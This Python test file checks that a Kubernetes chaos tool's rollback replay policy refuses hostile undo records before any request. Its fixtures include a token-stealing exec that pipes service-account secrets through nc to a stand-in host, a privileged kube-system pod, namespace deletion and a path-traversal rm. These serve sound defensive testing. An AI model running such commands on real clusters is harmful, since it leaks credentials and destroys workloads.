"""The replay policy: a record no shipped scenario writes is refused by name, before any request."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest
from kubernetes import client as k8s

from krkn_airflow_provider.errors import PolicyRefused
from krkn_airflow_provider.rollback import Store, UndoRecord, replay
from krkn_airflow_provider.rollback.policy import CLOCK_RESET, ReplayPolicy, check_policy
from krkn_airflow_provider.rollback.records import MANAGED_BY, MANAGED_BY_LABEL, NONCE_LABEL, RUN_LABEL

from .conftest import make_journal

GUARD = {MANAGED_BY_LABEL: MANAGED_BY, RUN_LABEL: "r", NONCE_LABEL: "abcdefgh"}


def _record(**fields: Any) -> dict[str, Any]:
    return UndoRecord(**fields).to_dict()


HOSTILE = {
    "namespace delete (cascade)": dict(action="delete", api_version="v1", kind="Namespace", name="shop"),
    "unguarded Deployment delete": dict(
        action="delete", api_version="apps/v1", kind="Deployment", namespace="shop", name="web"
    ),
    "privileged pod in kube-system": dict(
        action="create",
        api_version="v1",
        kind="Pod",
        namespace="kube-system",
        name="x",
        manifest={
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {"name": "x", "namespace": "kube-system"},
            "spec": {"hostPID": True, "containers": [{"name": "x", "image": "busybox"}]},
        },
    ),
    "exec that leaks a token": dict(
        action="exec",
        api_version="v1",
        kind="Pod",
        namespace="shop",
        name="web-0",
        command=["/bin/sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/t* | nc evil 80"],
    ),
    "create through a manifest for another name": dict(
        action="create",
        api_version="v1",
        kind="Pod",
        namespace="shop",
        name="x",
        manifest={"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "other"}},
    ),
    "patch of a ConfigMap": dict(
        action="patch",
        api_version="v1",
        kind="ConfigMap",
        namespace="shop",
        name="c",
        patch={"data": {"a": "1"}},
        expect={"data": {"a": "2"}},
    ),
    "patch of a Service's ports": dict(
        action="patch",
        api_version="v1",
        kind="Service",
        namespace="shop",
        name="web",
        patch={"spec": {"ports": []}},
        expect={"spec": {"ports": [{"port": 1}]}},
    ),
    "guarded delete of a Secret": dict(
        action="delete", api_version="v1", kind="Secret", namespace="shop", name="s", guard=GUARD
    ),
    "guard with a label of someone else": dict(
        action="delete",
        api_version="v1",
        kind="Pod",
        namespace="shop",
        name="p",
        guard={**GUARD, MANAGED_BY_LABEL: "someone-else"},
    ),
    "rm outside the fill file": dict(
        action="exec",
        api_version="v1",
        kind="Pod",
        namespace="shop",
        name="db",
        command=["/bin/sh", "-c", "rm -f /data/../etc/kraken-abcdefgh.tmp"],
    ),
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_shapes_are_refused_by_name(name: str) -> None:
    with pytest.raises(PolicyRefused, match=r"refused by the replay policy: .*left pending"):
        check_policy(_record(**HOSTILE[name]), source=name)


ALLOWED = {
    "guarded delete": dict(
        action="delete", api_version="v1", kind="Pod", namespace="shop", name="p", guard=GUARD
    ),
    "cordon back": dict(
        action="patch",
        api_version="v1",
        kind="Node",
        name="n",
        patch={"spec": {"unschedulable": None}, "metadata": {"annotations": {"krkn.io/change": None}}},
        expect={"spec": {"unschedulable": True}, "metadata": {"annotations": {"krkn.io/change": "r"}}},
    ),
    "clock reset": dict(
        action="exec",
        api_version="v1",
        kind="Pod",
        namespace="shop",
        name="p",
        command=["/bin/sh", "-c", CLOCK_RESET],
    ),
    "fill file removal": dict(
        action="exec",
        api_version="v1",
        kind="Pod",
        namespace="shop",
        name="db",
        command=["/bin/sh", "-c", "rm -f /var/lib/data/kraken-abcdefgh.tmp"],
    ),
}


@pytest.mark.parametrize("name", list(ALLOWED))
def test_shipped_shapes_pass(name: str) -> None:
    check_policy(_record(**ALLOWED[name]))


def test_protected_namespaces_can_be_allowed_explicitly() -> None:
    record = _record(**{**ALLOWED["guarded delete"], "namespace": "kube-system"})
    with pytest.raises(PolicyRefused, match="protected namespace 'kube-system'"):
        check_policy(record)
    check_policy(record, policy=ReplayPolicy(allow_protected_namespaces=True))


def test_policy_copy_of_the_clock_reset_matches_the_scenario() -> None:
    from krkn_airflow_provider.scenarios import time_scenarios

    assert time_scenarios.RESET == CLOCK_RESET


def test_a_hostile_record_is_refused_before_any_request_and_stays_pending(kube: Any, tmp_path: Path) -> None:
    core = k8s.CoreV1Api(kube.api_client())
    core.create_namespaced_config_map(kube.namespace, {"metadata": {"name": "users-own"}, "data": {"a": "b"}})
    store = Store(str(tmp_path / "rb"))
    journal = make_journal(store)
    hostile = [
        journal.record(UndoRecord(action="delete", api_version="v1", kind="Namespace", name=kube.namespace)),
        journal.record(
            UndoRecord(
                action="delete",
                api_version="v1",
                kind="ConfigMap",
                namespace=kube.namespace,
                name="users-own",
            )
        ),
    ]
    good = journal.record(
        UndoRecord(
            action="delete",
            api_version="v1",
            kind="ConfigMap",
            namespace=kube.namespace,
            name="gone",
            guard=journal.object_labels(),
        )
    )
    if kube.emulator is not None:
        kube.emulator.clear_requests()
    summary = replay(store, kube.dynamic(), run_uuid=journal.run_uuid)
    outcomes = {result.entry.id: (result.outcome, result.message) for result in summary.results}
    assert good is not None and outcomes[good.id][0] == "already_clean"
    for entry in hostile:
        assert entry is not None
        assert outcomes[entry.id][0] == "failed"
        assert "refused by the replay policy" in outcomes[entry.id][1]
    assert {e.id for e in store.entries(state="pending")} == {e.id for e in hostile if e is not None}
    assert core.read_namespaced_config_map("users-own", kube.namespace).data == {"a": "b"}
    core.read_namespace(kube.namespace)
    if kube.emulator is not None:
        # Only the good record's guarded delete reached the server.
        assert [(r.method, r.path.rsplit("/", 1)[-1]) for r in kube.emulator.writes()] == [
            ("DELETE", "configmaps")
        ]
